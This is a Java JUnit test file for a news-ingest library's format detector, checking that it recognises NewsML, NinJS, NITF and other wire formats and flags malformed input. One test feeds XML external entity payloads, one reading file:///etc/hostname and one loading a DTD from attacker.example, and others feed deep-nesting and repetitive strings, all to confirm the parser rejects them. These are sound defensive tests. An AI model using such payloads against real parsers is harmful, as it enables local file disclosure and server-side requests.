package io.depeche.ingest.format;

import static io.depeche.ingest.format.Files.code;
import static io.depeche.ingest.format.Files.message;
import static io.depeche.ingest.format.Files.text;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FormatsTest {
    @ParameterizedTest
    @CsvSource({
        "reuters-message.xml, newsml-g2",
        "reuters-message-prefixed.xml, newsml-g2",
        "dpa-item.xml, newsml-g2",
        "planning.xml, newsml-g2",
        "ninjs-1.json, ninjs",
        "ninjs-3.json, ninjs",
        "superdesk.json, ninjs",
        "page.html, html",
        "wire.txt, text"
    })
    void recognisesAFormatByWhatItIs(String file, String format) {
        assertThat(Formats.read(text(file)).format()).isEqualTo(format);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<nitf xmlns:iptc=\"http://iptc.org/std/nar/2006-10-01/\"><body/></nitf>|NITF (root element nitf)",
                "<?xml version='1.0'?><!DOCTYPE nitf SYSTEM 'nitf-3-2.dtd'><nitf/>|NITF",
                "<?xml version='1.0'?><!DOCTYPE NewsML PUBLIC 'x' 'y' []><NewsML/>|NewsML 1.x",
                "<rss version='2.0'><channel/></rss>|RSS (root element rss)",
                "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>|RSS 1.0",
                "<!DOCTYPE html PUBLIC 'x' 'y'><rss><channel/></rss>|RSS (root element rss)",
                "<feed xmlns='http://www.w3.org/2005/Atom'/>|Atom",
                "<!DOCTYPE lewis SYSTEM 'lewis.dtd'><REUTERS TOPICS='YES'></REUTERS>|Reuters-21578",
                "<?xml version='1.0'?><channel1><x/></channel1>|root element channel1 without a namespace",
                "<newsItem xmlns='http://other.example/'/>|root element newsItem in the namespace http://other.example/",
                "<catalog xmlns='http://iptc.org/std/nar/2006-10-01/'/>|root element catalog",
                "{\"altId\":\"nL1\",\"takeSequence\":1,\"mimeType\":\"text/plain\"}|LSEG machine-readable news",
                "{\"newsItem\":{\"_version\":1}}|LSEG Data Platform",
                "{\"format\":\"digitalwires@2\",\"urn\":\"urn:newsml:x\",\"article_html\":\"\"}|dpa digitalwire",
                "{\"data\":{\"item\":{\"altids\":{\"itemid\":\"1\"}}}}|AP Media API",
                "{\"data\":{\"item\":{\"usn\":\"L1\",\"bodyXhtml\":\"\"}}}|Reuters Connect",
                "{\"temperature\":12}|JSON with the keys temperature",
                "{\"uri\":\"urn:x:1\",\"temperature\":12}|JSON with the keys uri, temperature",
                "Received: from a by b\\nSubject: News\\n\\nText|an e-mail",
                "Subject: News\\n folded: x\\nMIME-Version: 1.0\\n\\nText|an e-mail"
            })
    void namesWhatItDoesNotRead(String input, String name) {
        Reading reading = Formats.read(input.replace("\\n", "\n"));

        assertThat(reading.format()).isEqualTo("unknown");
        assertThat(code(reading.found().get(0))).isEqualTo("FMT-UNKNOWN");
        assertThat(message(reading.found().get(0)))
                .contains("looks like", name)
                .endsWith("which this version does not read");
    }

    @Test
    void namesTheFormatsThatAreFramedInControlCharacters() {
        byte[] iptc7901 = "\r\n\u007f\u0001abc0001 4 pl 100\r\n\u0002Text\u0003".getBytes(StandardCharsets.US_ASCII);
        byte[] anpa = "\u0016\u0016\u0001a0001\u001f".getBytes(StandardCharsets.US_ASCII);

        assertThat(message(Formats.readBytes(iptc7901).get(0))).contains("IPTC 7901");
        byte[] bare = "\u0001NEWS: RESULTS\u001f6".getBytes(StandardCharsets.US_ASCII);
        assertThat(message(Formats.readBytes(bare).get(0))).contains("SOH");
        assertThat(message(Formats.readBytes(anpa).get(0))).contains("ANPA 1312");
        assertThat(Formats.readBytes("Paris".getBytes(StandardCharsets.US_ASCII)))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<VBRX.PA> climbs after results\nShares rose.",
                "[Moscou] Le cours monte",
                "{brackets} are text",
                "Note: this is text\nand more: of it",
                "12 dead in flood"
            })
    void aTextThatStartsLikeAnotherFormatIsText(String input) {
        assertThat(Formats.read(input).format()).isEqualTo("text");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>&a;</newsItem>",
                "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>&a;</newsItem>",
                "<!doctype x [\n<!entity % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><nitf/>"
            })
    void aDocumentThatDeclaresEntitiesIsUnsafe(String input) {
        assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-UNSAFE");
    }

    @Test
    void whatNestsTooDeepIsUnsafe() {
        String xml = "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>" + "<a>".repeat(5000);
        String json = "[".repeat(5000);

        assertThat(code(Formats.read(xml).found().get(0))).isEqualTo("FMT-UNSAFE");
        assertThat(code(Formats.read(json).found().get(0))).isEqualTo("FMT-UNSAFE");
        assertThat(message(Formats.read(json).found().get(0))).contains("nesting depth");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'><itemMeta></newsItem>",
                "{\"uri\":\"urn:x:1\",\"headline\":\"cut o",
                "<?xml version='1.0'?>  ",
                "<!-- nothing follows -->"
            })
    void brokenMarkupIsMalformed(String input) {
        assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-MALFORMED");
    }

    @Test
    void aMessageWithoutItemsIsAHeartbeat() {
        Found found = Formats.read("<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'><header/></newsMessage>")
                .found()
                .get(0);

        assertThat(code(found)).isEqualTo("FMT-NOT-NEWS");
    }

    @Test
    void repetitiveInputTakesNoLongerThanItsLengthAllows() {
        List<String> inputs = List.of(
                "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>" + "&<![CDATA[".repeat(200_000),
                "<!--".repeat(300_000),
                "<!DOCTYPE x [".repeat(200_000),
                "<a ".repeat(300_000),
                "<html>" + "<div>".repeat(100_000),
                "{\"uri\":\"1\",\"body_html\":\"" + "<p ".repeat(300_000) + "\"}",
                "A: b\n".repeat(200_000),
                "A: b\n" + " c\n".repeat(200_000));

        for (String input : inputs) {
            Assertions.assertTimeout(Duration.ofSeconds(10), () -> Formats.read(input), input.substring(0, 60));
        }
    }
}
